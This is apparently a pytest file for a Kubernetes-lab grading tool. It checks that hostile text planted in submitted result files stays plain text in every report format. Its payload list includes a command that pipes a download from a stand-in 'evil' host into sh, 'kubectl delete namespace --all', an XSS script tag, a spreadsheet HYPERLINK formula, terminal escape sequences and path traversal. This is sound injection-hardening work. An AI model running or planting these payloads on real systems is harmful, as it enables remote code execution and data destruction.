"""Every field of a handed-in file, replaced by hostile text: it stays text in every report."""

import copy
import csv
import html
import json
import re
import shlex
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from clusterdojo.cli.app import run
from clusterdojo.grading.evidence import Evidence
from clusterdojo.lab.suite import suite
from clusterdojo.reporting.collection import Collection, collect
from clusterdojo.reporting.exam_terminal import exam_report
from clusterdojo.reporting.spreadsheet import FORMULA, HARMLESS
from tests.reporting.synthetic import criterion, result
from tests.reporting.synthetic_exam import Task, exam

Shown = pytest.CaptureFixture[str]
Path_ = tuple[str | int, ...]
NAME = "(name)"  # instead of the value below it
EVIL = "n; curl evil | sh"
PAYLOADS = {
    "text": f"{EVIL} $(curl evil) `curl evil` && curl evil\nkubectl delete namespace --all "
    "{{ 7 * 7 }} {% raw %} {%% x %%} {## [link=http://evil]here[/link][/] [red on red] :smile:",
    "terminal": f"\x1b[2J\x1b]0;owned\x07\x9b1m\r\u202e\u2066{EVIL}",
    "page": "\"'></script><script>alert(1)</script><img src=http://evil onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil", "points")',
    "path": "../../../../tmp/evil\x00/x",
    "huge": "x" * 200_000,
}
# What is free text, and so taken as it is; a payload in another field is refused.
FREE = {
    "learner", "attempt", "suite", "engine", "id", "digest", "title", "domain", "name", "why",
    "reason", "expected", "found", "source", "content", "cluster1", "node", "nodes", "faults",
    "exam", "pack", "lab", "name in values", "name in kubernetes",
}  # fmt: skip
UNSHOWN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def whole() -> dict[str, Any]:
    """A result in which no field is empty, of a lab that is not here in that version."""
    parts = [
        criterion("test_a", 2, evidence=[Evidence(source="node01 /etc/x", content="x")]),
        criterion("test_b", 3, "failed"),
        criterion("test_c", gate=True),
    ]
    made = result(
        parts=parts,
        values={"node": "node01", "nodes": ["a", "b"]},
        faults=["cluster1 does not answer"],
        solution_seen=True,
    )
    content: dict[str, Any] = json.loads(made.model_dump_json())
    content["seal"] = {"algorithm": "HMAC-SHA256", "key": "k", "mac": "m"}
    return content


def whole_exam() -> dict[str, Any]:
    """An exam with a task that was graded and one that was not."""
    parts = (criterion("test_a"), criterion("test_b", outcome="failed"))
    changed = (("solution_seen", True), ("parts", parts))
    tasks = (Task(weight=60, changed=changed), Task(weight=40, lost=True))
    made = exam(tasks, sealed="sha256:p")
    content: dict[str, Any] = json.loads(made.model_dump_json())
    content["tasks"][0]["result"]["values"] = {"node": "node01"}
    return content


def fields(content: Any, path: Path_ = ()) -> Iterator[Path_]:
    """The path of each text in it, and, below `values` and `kubernetes`, of each name."""
    if isinstance(content, str):
        yield path
    elif isinstance(content, list):
        for place, one in enumerate(content):
            yield from fields(one, (*path, place))
    elif isinstance(content, dict):
        for name, one in content.items():
            yield from fields(one, (*path, name))
            if path and path[-1] in ("values", "kubernetes"):
                yield (*path, name, NAME)


def forged(content: dict[str, Any], path: Path_, payload: str) -> dict[str, Any]:
    """The same with that text, or that name, replaced."""
    changed = copy.deepcopy(content)
    *steps, last = path
    if last == NAME:
        last = steps.pop()
    inner: Any = changed
    for step in steps:
        inner = inner[step]
    if path[-1] == NAME:
        inner[payload] = inner.pop(last)
    else:
        inner[last] = payload
    return changed


def name_of(path: Path_) -> str:
    """The field's name, as in `FREE`."""
    names = [step for step in path if isinstance(step, str)]
    return f"name in {names[-3]}" if names[-1] == NAME else names[-1]


def handed_in(folder: Path, payload: str) -> set[str]:
    """A file for each field; returns the fields' names."""
    folder.mkdir()
    names = set()
    for kind, content in (("", whole()), ("exam-", whole_exam())):
        for number, path in enumerate(fields(content)):
            made = forged(content, path, payload)
            for id_ in ("attempt", "exam"):
                if id_ in made and made[id_] == content[id_]:
                    made[id_] = f"{kind}{number}"
            (folder / f"{kind}{number}.json").write_text(json.dumps(made))
            names.add(name_of(path))
    return names


@pytest.fixture(params=PAYLOADS)
def payload(request: pytest.FixtureRequest) -> str:
    """One hostile text."""
    return PAYLOADS[request.param]


@pytest.fixture
def folder(tmp_path: Path, payload: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    """What was handed in, and nothing of one's own."""
    monkeypatch.setenv("CLUSTERDOJO_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("COLUMNS", "80")
    handed_in(tmp_path / "in", payload)
    return tmp_path / "in"


def test_the_free_fields_are_taken(folder: Path) -> None:
    """So what these tests look at is really in the reports; fields with a set of words are not."""
    found: Collection = collect([folder])
    skipped = {Path(one.source).stem for one in found.skipped}
    taken: set[str] = set()
    refused: set[str] = set()
    for kind, content in (("", whole()), ("exam-", whole_exam())):
        for number, path in enumerate(fields(content)):
            (refused if f"{kind}{number}" in skipped else taken).add(name_of(path))
    assert taken >= FREE - {"lab"}
    assert {"apiVersion", "kind", "outcome", "started", "state", "difficulty"} <= refused
    assert all(one.why.isprintable() and len(one.why) < 400 for one in found.skipped)


class Page(HTMLParser):
    """What could act in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.acting: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Count scripts, and keep what loads, leads somewhere or runs something."""
        self.scripts += tag == "script"
        self.acting += [
            (tag, name, value)
            for name, value in attrs
            if name.startswith("on")
            or (
                name in ("href", "src", "action")
                and value
                and value[0] != "#"
                and value != "data:,"
            )
        ]


def shown_on(page: Path) -> str:
    """The text of a page in which nothing acts but the suite's own script."""
    text = page.read_text(encoding="utf-8")
    found = Page()
    found.feed(text)
    assert (found.scripts, found.acting) == (1, [])
    assert not UNSHOWN.search(text)
    return text


def test_pages_show_text(folder: Path, tmp_path: Path) -> None:
    """Of a class and of a learner; drawn values are words of a shell."""
    for command in (["class"], ["html", "--learner", "Ada", "--answers"]):
        page = tmp_path / f"{command[0]}.html"
        assert run(["report", *command, str(folder), "--output", str(page)]) == 0
        text = shown_on(page)
        assert len(text) < 3_000_000
        for values in re.findall("<dt>Drawn values</dt><dd>(.*?)</dd>", text, re.DOTALL):
            told = html.unescape(re.sub("<[^>]*>", "", values))
            words = shlex.shlex(told, posix=False, punctuation_chars=True)
            assert not set(words) & set(";|&()<>`$"), told


def test_terminals_show_text(folder: Path, tmp_path: Path, capsys: Shown) -> None:
    """No command lets a result move the cursor, colour a line or name the window."""
    commands = [
        ["report", "verify", str(folder)],
        ["exam", "verify", str(folder)],
        ["report", "class", str(folder), "--output", str(tmp_path / "x.html")],
        ["report", "gradebook", str(folder), "--output", str(tmp_path / "x.csv")],
        ["report", "gradebook", str(folder), "--points-of", "x", "--output", "-"],
        ["report", "html", str(folder), "--output", str(tmp_path / "y.html")],
        ["report", "exam", str(folder)],
        ["report", "exam", str(folder), "--id", "x"],
        ["report", "exam", str(folder), "--learner", "Ada"],
    ]
    console = Console(width=80, force_terminal=False, color_system=None)
    for entry in collect([folder]).exams:
        for part in exam_report(entry.result, suite()):
            console.print(part, crop=False)
    assert not UNSHOWN.search(capsys.readouterr().out)
    own = tmp_path / "state/results"
    own.mkdir(parents=True)
    for path in folder.iterdir():
        (own / path.name).write_bytes(path.read_bytes())
    commands += [["report", "--learner", "Ada"], ["exam", "list"], ["list"]]
    for command in commands:
        assert run(command) in (0, 1, 2), command
        out, err = capsys.readouterr()
        assert not UNSHOWN.search(out + err), command
        assert "Traceback" not in err
        assert max(map(len, (out + err).splitlines()), default=0) < 5_000, command


def test_names_and_ids_can_be_copied_behind_an_option(folder: Path, capsys: Shown) -> None:
    """They are words of a shell."""
    for command, option in ((["html", "--output", "-"], "--learner"), (["exam", "--id", "x"], "")):
        assert run(["report", command[0], str(folder), *command[1:]]) == 2
        told = capsys.readouterr().err.rpartition(f"{option}:" if option else "There are")[2]
        words = shlex.shlex(told.replace("\n", " "), posix=False, punctuation_chars=True)
        assert not set(words) & set(";|&()<>`$"), told


def test_files_for_other_programs_hold_text(folder: Path, tmp_path: Path) -> None:
    """No formula, no broken document, no element or image in a description."""
    canvas = tmp_path / "canvas"
    canvas.mkdir()
    gradebook = ["report", "gradebook", str(folder)]
    assert run([*gradebook, "-o", str(tmp_path / "nbgrader.csv")]) == 0
    assert run([*gradebook, "--format", "canvas", "-o", str(canvas)]) == 0
    sheets = [tmp_path / "nbgrader.csv", *canvas.iterdir()]
    assert {path.parent for path in sheets} == {tmp_path, canvas}
    assert len(sheets) > 2
    for path in sheets:
        with path.open(newline="", encoding="utf-8") as file:
            for text in (text for row in csv.reader(file) for text in row):
                assert not text.startswith(FORMULA) or HARMLESS.fullmatch(text)
                assert not UNSHOWN.search(text)
    assert run(["report", "junit", str(folder), "-o", str(tmp_path / "x.xml")]) == 0
    assert ET.parse(tmp_path / "x.xml").getroot().tag == "testsuites"  # noqa: S314 - our own
    assert run(["report", "jsonl", str(folder), "-o", str(tmp_path / "x.jsonl")]) == 0
    lines = (tmp_path / "x.jsonl").read_text(encoding="utf-8").split("\n")
    assert all(json.loads(line)["kind"] in ("Result", "ExamResult") for line in lines if line)
    assert run(["report", "allure", str(folder), "-o", str(tmp_path / "allure")]) == 0
    files = list((tmp_path / "allure").glob("*-result.json"))
    assert files
    assert {path.parent for path in (tmp_path / "allure").rglob("*")} == {tmp_path / "allure"}
    for test in (json.loads(path.read_text()) for path in files):
        assert not re.search("<(?!/?p>)", test.get("descriptionHtml", ""))
        assert not test.get("links")


def test_nothing_is_written_but_what_was_asked_for(folder: Path, tmp_path: Path) -> None:
    """No id or name of a result is taken for a path."""
    before = set(tmp_path.rglob("*"))
    for command in (["class", "-o", "a"], ["junit", "-o", "b"], ["gradebook", "-o", "c"]):
        to = tmp_path / command[2]
        assert run(["report", command[0], str(folder), command[1], str(to)]) == 0
    assert set(tmp_path.rglob("*")) - before == {tmp_path / name for name in "abc"}


@pytest.mark.parametrize("name", ["attempt", "exam"])
def test_an_error_shows_text(tmp_path: Path, capsys: Shown, name: str) -> None:
    """Of a result without a score, Gradescope's writer names the id."""
    content = whole_exam() if name == "exam" else whole()
    content[name] = PAYLOADS["terminal"]
    if name == "attempt":
        content["outcome"] = content["checks"][0]["outcome"] = "ungradable"
        content["criteria"][1]["outcome"] = "ungradable"
    (tmp_path / "x.json").write_text(json.dumps(content))
    to = str(tmp_path / "results.json")
    assert run(["report", "gradescope", str(tmp_path / "x.json"), "--output", to]) == 2
    told = capsys.readouterr().err
    assert "curl evil" in told
    assert not UNSHOWN.search(told)


NUMBERS = {
    **{text: text for text in ("-1", "0", "1", "1e308", "1e400", "-1e-320", "NaN", "true", "null")},
    "30 digits": "9" * 30, "400 digits": "9" * 400, "5000 digits": "9" * 5000,
    "list": "[]", "object": "{}", "text": '"7"',
}  # fmt: skip


def numbers(content: Any, path: Path_ = ()) -> Iterator[Path_]:
    """The path of each number, truth or null in it, and of each list and object."""
    if path and not isinstance(content, str):
        yield path
    if isinstance(content, list):
        for place, one in enumerate(content):
            yield from numbers(one, (*path, place))
    elif isinstance(content, dict):
        for name, one in content.items():
            yield from numbers(one, (*path, name))


@pytest.mark.parametrize("number", NUMBERS.values(), ids=NUMBERS)
def test_a_number_is_within_bounds_or_the_result_is_skipped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Shown, number: str
) -> None:
    """No report ends in a traceback, or shows digits without end, whatever stands in its place."""
    monkeypatch.setenv("CLUSTERDOJO_STATE", str(tmp_path / "state"))
    folder = tmp_path / "in"
    folder.mkdir()
    mark = "@@@"
    for name, content in (("good", whole()), ("exam-good", whole_exam())):
        (folder / f"{name}.json").write_text(json.dumps(content))
    for kind, content in (("", whole()), ("exam-", whole_exam())):
        for place, path in enumerate(numbers(content)):
            made = forged(content, path, mark)
            made["exam" if kind else "attempt"] = f"{kind}{place}"
            text = json.dumps(made).replace(f'"{mark}"', number)
            (folder / f"{kind}{place}.json").write_text(text)
    to = str(tmp_path / "out")
    for command in (
        ["class", "-o", to], ["html", "--learner", "Ada", "-o", to], ["gradebook", "-o", to],
        ["gradebook", "--format", "canvas", "-o", f"{to}-canvas/"], ["junit", "-o", to],
        ["jsonl", "-o", to], ["allure", "-o", f"{to}-allure"], ["exam"], ["verify"],
    ):  # fmt: skip
        assert run(["report", command[0], str(folder), *command[1:]]) in (0, 1), command
        if command[0] not in ("jsonl", "allure", "exam", "verify", "gradebook"):
            assert not re.search(r"\d{150}", Path(to).read_text(encoding="utf-8")), command
    told = capsys.readouterr()
    assert not re.search(r"\d{150}", told.out + told.err)
    assert run(["report", "exam", str(folder)]) == 0
    for entry in collect([folder]).exams:
        for part in exam_report(entry.result, suite()):
            Console(width=80).print(part)
    (tmp_path / "state").mkdir(exist_ok=True)
    folder.rename(tmp_path / "state/results")
    for command in (["report"], ["exam", "list"], ["list"]):
        assert run(command) == 0, command
    told = capsys.readouterr()
    assert not re.search(r"\d{150}", told.out + told.err)
